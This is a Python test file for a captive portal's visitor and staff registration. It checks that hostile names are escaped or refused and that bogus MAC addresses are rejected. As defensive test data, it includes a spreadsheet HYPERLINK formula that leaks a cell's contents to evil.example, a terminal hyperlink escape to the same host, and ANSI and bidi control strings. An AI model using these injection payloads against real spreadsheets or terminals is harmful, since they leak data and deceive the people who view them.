"""Hostile input at the portal, over HTTP to the app (SQLite and PostgreSQL): a visitor's name
that looks like markup or a formula reaches the admin's terminal and the DPO's spreadsheet as
text; control characters and non-ASCII security tokens get the form again, not a 500; an
address that is no device's own is not registered (issue 11, items 2, 3, 12 and 13)."""

from __future__ import annotations

import csv
import io
import json
from types import SimpleNamespace

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from portal.tokens import Signer
from service.errors import Invalid
from service.models import Device, Signature
from service.text import find_control
from tests.conftest import RunCli
from tests.portal.conftest import Connect
from tests.portal.test_portal_http import Clients, csrf_of, staff_sign_in, visitor_form

MARKUP_NAME = "[/x] Ada [bold]Lovelace[/bold] :smile:"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Ada")'


def stored_devices(session_factory: sessionmaker[Session], mac: str) -> list[Device]:
    with session_factory() as session:
        return list(session.scalars(select(Device).where(Device.mac == mac)))


def signatures_for(session_factory: sessionmaker[Session], mac: str) -> int:
    with session_factory() as session:
        device = session.scalar(select(Device).where(Device.mac == mac))
        if device is None:
            return 0
        return len(session.scalars(select(Signature).where(Signature.device_id == device.id)).all())


# ---------------------------------------------------------------- item 2: markup, CLI output
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # no database question in it
def test_visitor_named_like_markup_is_listed_literally(
    client_at: Clients, connect: Connect, run_cli: RunCli
) -> None:
    """One guest's name once crashed the admin's `device list` and `device show`."""
    mac = "3c:22:fb:00:00:41"
    connect(mac, "10.99.1.1")
    client = client_at("10.99.1.1")
    form = client.get("/visitor").text
    r = client.post(
        "/visitor",
        data=visitor_form(form, name=MARKUP_NAME, typed_name=MARKUP_NAME, organisation="[/]"),
    )
    assert r.status_code == 303, r.text
    listing = run_cli("device", "list")
    assert listing.returncode == 0
    assert f"{MARKUP_NAME} ([/])" in listing.stdout
    show = run_cli("device", "show", mac)
    assert f"name: {MARKUP_NAME} ([/])" in show.stdout
    assert "Traceback" not in listing.stderr + show.stderr
    exported = list(csv.DictReader(io.StringIO(run_cli("export", "signatures").stdout)))
    assert [row["typed_name"] for row in exported if row["mac"] == mac] == [MARKUP_NAME]
    devices = list(csv.DictReader(io.StringIO(run_cli("export", "devices").stdout)))
    assert [row["name"] for row in devices if row["mac"] == mac] == [f"{MARKUP_NAME} ([/])"]


# ---------------------------------------------------------------- item 3: formulas, controls
def test_visitor_named_like_a_formula_is_text_in_the_csv(
    client_at: Clients, connect: Connect, run_cli: RunCli
) -> None:
    mac = "3c:22:fb:00:00:42"
    connect(mac, "10.99.1.2")
    client = client_at("10.99.1.2")
    form = client.get("/visitor").text
    r = client.post(
        "/visitor",
        data=visitor_form(
            form, name=FORMULA_NAME, typed_name=FORMULA_NAME, organisation="", visiting="@SUM(1)"
        ),
    )
    assert r.status_code == 303, r.text
    signatures = list(csv.DictReader(io.StringIO(run_cli("export", "signatures").stdout)))
    mine = [row for row in signatures if row["mac"] == mac]
    assert [(row["typed_name"], row["visiting"]) for row in mine] == [
        ("'" + FORMULA_NAME, "'@SUM(1)")
    ]
    devices = list(csv.DictReader(io.StringIO(run_cli("export", "devices").stdout)))
    assert [row["name"] for row in devices if row["mac"] == mac] == ["'" + FORMULA_NAME]
    lines = run_cli("export", "signatures", "--format", "jsonl").stdout.splitlines()
    exact = [json.loads(line) for line in lines]
    assert [row["typed_name"] for row in exact if row["mac"] == mac] == [FORMULA_NAME]


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("name", "Ada\x1b[2J", "Your name contains an invisible control character (U+001B)"),
        ("name", "Ada\x00", "Your name contains an invisible control character (U+0000)"),
        ("organisation", "Evil\u202eCorp", "Organisation contains an invisible control character"),
        ("visiting", "Mrs\x9bPatel", "Whom you are visiting contains an invisible control"),
    ],
    ids=["escape", "nul", "bidi-override", "c1-csi"],
)
def test_visitor_form_with_control_characters_is_refused(
    client_at: Clients,
    connect: Connect,
    session_factory: sessionmaker[Session],
    field: str,
    value: str,
    message: str,
) -> None:
    mac = "3c:22:fb:00:00:43"
    connect(mac, "10.99.1.3")
    client = client_at("10.99.1.3")
    form = client.get("/visitor").text
    data = visitor_form(form, **{field: value})
    if field == "name":
        data["typed_name"] = value
    r = client.post("/visitor", data=data)
    assert r.status_code == 400
    assert message in r.text
    assert 'name="csrf"' in r.text  # the form again, to correct
    assert stored_devices(session_factory, mac) == []


def test_staff_device_name_with_control_characters_is_refused(
    client_at: Clients, connect: Connect, session_factory: sessionmaker[Session], st_andrews: str
) -> None:
    # At St Andrew's: Westgate refuses staff registration before any form (issue 12).
    mac = "1a:2b:3c:4d:5e:44"
    connect(mac, "10.99.1.4", site=st_andrews)
    client = client_at("10.99.1.4")
    byod = staff_sign_in(client)
    assert byod.status_code == 200
    r = client.post(
        "/staff/register",
        data={
            "ticket": csrf_of(byod.text, "ticket"),
            "csrf": csrf_of(byod.text),
            "device_name": "Jo\x1b]8;;http://evil.example\x07 phone",
            "agree": "yes",
            "typed_name": "Jo Smith",
        },
    )
    assert r.status_code == 400
    assert "The device name contains an invisible control character (U+001B)" in r.text
    assert stored_devices(session_factory, mac) == []


def test_staff_sign_in_with_nul_in_the_username_is_refused_not_a_500(
    client_at: Clients, connect: Connect, st_andrews: str
) -> None:
    # At St Andrew's: Westgate refuses staff registration before any form (issue 12).
    """PostgreSQL cannot compare text holding NUL: the query once failed with a 500."""
    connect("1a:2b:3c:4d:5e:47", "10.99.1.9", site=st_andrews)
    client = client_at("10.99.1.9")
    page = client.get("/staff")
    r = client.post(
        "/staff",
        data={"csrf": csrf_of(page.text), "username": "js\x00mith", "password": "demo\x00pass"},
    )
    assert r.status_code == 400
    assert "The username contains a control character (U+0000)" in r.text
    assert staff_sign_in(client).status_code == 200  # the real account still signs in


def test_user_agent_controls_are_not_stored(
    client_at: Clients, connect: Connect, run_cli: RunCli
) -> None:
    """The browser's User-Agent is nobody's typing: kept, without its control characters."""
    mac = "3c:22:fb:00:00:45"
    connect(mac, "10.99.1.5")
    client = client_at("10.99.1.5")
    form = client.get("/visitor").text
    agent = "Phone/1.0 \x9b2J(\u202ecod)"
    r = client.post(
        "/visitor",
        data=visitor_form(form),
        headers={"User-Agent": agent.encode()},  # raw bytes: Starlette reads them as latin-1
    )
    assert r.status_code == 303
    lines = run_cli("export", "signatures", "--format", "jsonl").stdout.splitlines()
    agents = [json.loads(line)["user_agent"] for line in lines]
    mine = [a for a in agents if a and a.startswith("Phone/1.0")]
    assert len(mine) == 1
    assert find_control(mine[0]) is None


# ---------------------------------------------------------------- item 12: non-ASCII tokens
def test_non_ascii_csrf_and_ticket_are_refused_not_a_500(
    client_at: Clients, connect: Connect, session_factory: sessionmaker[Session], st_andrews: str
) -> None:
    # At St Andrew's: Westgate refuses staff registration before any form (issue 12).
    mac = "3c:22:fb:00:00:46"
    connect(mac, "10.99.1.6", site=st_andrews)
    client = client_at("10.99.1.6")
    form = client.get("/visitor").text
    good = csrf_of(form)
    body = good.split(".", 1)[0]
    for token in (f"{body}.é", f"{body}.{'ü' * 43}", "é.é"):
        data = visitor_form(form, csrf=token)
        r = client.post("/visitor", data=data)
        assert r.status_code == 400, token
        assert "security token is" in r.text
    assert stored_devices(session_factory, mac) == []
    # The staff sign-in ticket, and the CSRF token of the BYOD form beside a good ticket.
    staff = "1a:2b:3c:4d:5e:46"
    connect(staff, "10.99.1.7", site=st_andrews)
    client = client_at("10.99.1.7")
    byod = staff_sign_in(client)
    ticket = csrf_of(byod.text, "ticket")
    form_data = {
        "csrf": csrf_of(byod.text),
        "device_name": "Jo's phone",
        "agree": "yes",
        "typed_name": "Jo Smith",
    }
    r = client.post("/staff/register", data={**form_data, "ticket": ticket.split(".")[0] + ".ñ"})
    assert r.status_code == 400
    assert "security token is not valid" in r.text
    r = client.post(
        "/staff/register",
        data={**form_data, "ticket": ticket, "csrf": form_data["csrf"].split(".")[0] + ".ß"},
    )
    assert r.status_code == 400
    assert "security token is not valid" in r.text
    assert stored_devices(session_factory, staff) == []
    # Signed tokens still check out; a lone surrogate (no HTTP form can carry one) is refused.
    signer = Signer("portal-test-secret")
    signer.check_csrf(good, "visitor", mac)
    assert signer.check_ticket(ticket, staff) > 0
    with pytest.raises(Invalid, match="not valid"):
        signer.check_csrf(f"{body}.\ud800", "visitor", mac)


# ---------------------------------------------------------------- item 13: no device's own
@pytest.mark.parametrize(
    ("mac", "message"),
    [
        ("01:00:5e:00:00:fb", "01:00:5e:00:00:fb is a multicast (group) address"),
        ("ff:ff:ff:ff:ff:ff", "ff:ff:ff:ff:ff:ff is the broadcast address"),
        ("00:00:00:00:00:00", "00:00:00:00:00:00 is the all-zero address"),
    ],
    ids=["multicast", "broadcast", "zero"],
)
def test_portal_does_not_register_an_address_no_device_owns(
    client_at: Clients,
    connect: Connect,
    session_factory: sessionmaker[Session],
    westgate: SimpleNamespace,
    mac: str,
    message: str,
) -> None:
    connect(mac, "10.99.1.8")
    client = client_at("10.99.1.8")
    form = client.get("/visitor")
    assert form.status_code == 200
    r = client.post("/visitor", data=visitor_form(form.text))
    assert r.status_code == 400
    assert message in r.text
    assert stored_devices(session_factory, mac) == []
    assert signatures_for(session_factory, mac) == 0
